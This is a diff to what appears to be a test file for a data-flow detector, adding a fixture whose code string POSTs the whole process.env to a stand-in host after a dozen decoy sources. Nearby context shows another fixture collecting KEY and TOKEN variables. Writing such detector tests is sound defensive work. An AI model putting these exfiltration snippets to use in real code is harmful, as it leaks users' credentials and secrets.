@@ -14,6 +14,13 @@ const base64 = (text: string): string => Buffer.from(text).toString('base64')
 
 const FLOWS: readonly { name: string; code: string; flows: readonly string[]; path?: string }[] = [
   {
+    name: 'a secret behind a dozen other sources',
+    code: `let all = ''
+${'all += atob(a)\n'.repeat(13)}all += JSON.stringify(process.env)
+fetch('https://c.invalid/', { method: 'POST', body: all })`,
+    flows: ['env 15 -> network 16'],
+  },
+  {
     name: 'the whole environment, filtered by name, posted by fetch',
     code: `const found = {}
 for (const [k, v] of Object.entries(process.env)) if (/KEY|TOKEN/.test(k)) found[k] = v
